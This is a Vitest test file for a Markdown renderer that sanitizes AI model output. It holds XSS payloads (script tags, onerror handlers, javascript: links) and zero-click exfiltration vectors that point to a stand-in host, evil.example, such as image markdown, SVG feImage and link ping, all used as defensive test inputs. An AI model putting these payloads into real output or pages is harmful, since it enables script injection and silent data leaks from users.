// @vitest-environment jsdom
import { describe, expect, it } from "vitest";
import { renderMarkdown } from "./render";

function dom(html: string): HTMLElement {
  const div = document.createElement("div");
  div.innerHTML = html;
  return div;
}

describe("renderMarkdown", () => {
  it("renders Markdown structure", () => {
    const root = dom(renderMarkdown("# Title\n\n- **bold** item\n- `code`"));
    expect(root.querySelector("h1")?.textContent).toBe("Title");
    expect(root.querySelector("li strong")?.textContent).toBe("bold");
    expect(root.querySelector("li code")?.textContent).toBe("code");
  });

  it.each([
    ["a script tag", "<script>window.pwned=1</script>hello", "script"],
    ["an event handler", '<img src="x" onerror="window.pwned=1">', "[onerror]"],
    ["a javascript: link", "[click](javascript:alert(1))", 'a[href^="javascript"]'],
    ["an iframe", '<iframe src="https://example.com"></iframe>', "iframe"],
    ["inline styles", '<p style="position:fixed">x</p>', "[style]"],
  ])("removes %s from model output", (_label, source, selector) => {
    const root = dom(renderMarkdown(source));
    expect(root.querySelector(selector)).toBeNull();
  });

  it("highlights a finished code block and gives it a copy button", () => {
    const root = dom(renderMarkdown("```python\ndef f():\n    return 1\n```"));
    expect(root.querySelector("code.language-python .hljs-keyword")?.textContent).toBe("def");
    expect(root.querySelector("button.code-copy")).not.toBeNull();
    expect(root.querySelector("code")?.textContent).toBe("def f():\n    return 1");
  });

  it("escapes code without highlighting while streaming, even with an unclosed fence", () => {
    const root = dom(renderMarkdown("```python\nprint('<b>')", { streaming: true }));
    expect(root.querySelector(".hljs-keyword")).toBeNull();
    expect(root.querySelector("code")?.textContent).toContain("print('<b>')");
    expect(root.querySelector("b")).toBeNull();
  });

  it("never loads a remote image from model output, but keeps it as a link", () => {
    const root = dom(renderMarkdown("![secret](https://evil.example/leak?q=abc)\n\n<img src=https://evil.example/x>"));
    expect(root.querySelector("img")).toBeNull();
    expect(root.querySelector("a")?.getAttribute("href")).toBe("https://evil.example/leak?q=abc");
  });

  // Issue 15, finding 1: markup that loads a remote URL with no click (the browser test
  // tests/browser/test_security_csp.py checks the same payloads in Chromium under the CSP).
  it.each([
    ["an SVG image", '<svg><image href="https://evil.example/a"></image></svg>'],
    ["an SVG image (xlink)", '<svg><image xlink:href="https://evil.example/a"></image></svg>'],
    ["an feImage filter", '<svg><filter id="f"><feImage href="https://evil.example/a"/></filter></svg>'],
    ["a table background", '<table background="https://evil.example/a"><tr><td>x</td></tr></table>'],
    ["a cell background", '<table><tr><td background="https://evil.example/a">x</td></tr></table>'],
    ["a video poster", '<video poster="https://evil.example/a"></video>'],
    ["an image input", '<input type="image" src="https://evil.example/a">'],
    ["a stylesheet link", '<link rel="stylesheet" href="https://evil.example/a">'],
    ["a blockquote cite", '<blockquote cite="https://evil.example/a">x</blockquote>'],
    ["a link ping", '<a href="https://example.com" ping="https://evil.example/a">x</a>'],
  ])("leaves no remote URL from %s in the output", (_label, source) => {
    for (const streaming of [false, true]) {
      const root = dom(renderMarkdown(source, { streaming }));
      expect(root.querySelector("svg, image, feImage, video, input, link")).toBeNull();
      expect(root.innerHTML).not.toContain("evil.example");
    }
  });

  it.each([
    ["https", "[a](https://example.com/x)", "https://example.com/x"],
    ["mailto", "[a](mailto:ada@example.com)", "mailto:ada@example.com"],
    ["relative", "[a](/c/abc)", "/c/abc"],
  ])("keeps a %s link", (_label, source, href) => {
    expect(dom(renderMarkdown(source)).querySelector("a")?.getAttribute("href")).toBe(href);
  });

  it.each([["data:text/html,x"], ["vbscript:x"], ["file:///etc/passwd"]])(
    "drops a link to %s",
    (href) => {
      const link = dom(renderMarkdown(`<a href="${href}">a</a>`)).querySelector("a");
      expect(link?.getAttribute("href") ?? null).toBeNull();
    },
  );

  it("opens links in a new tab without an opener", () => {
    const link = dom(renderMarkdown("[docs](https://example.com)")).querySelector("a");
    expect(link?.getAttribute("target")).toBe("_blank");
    expect(link?.getAttribute("rel")).toContain("noopener");
  });
});
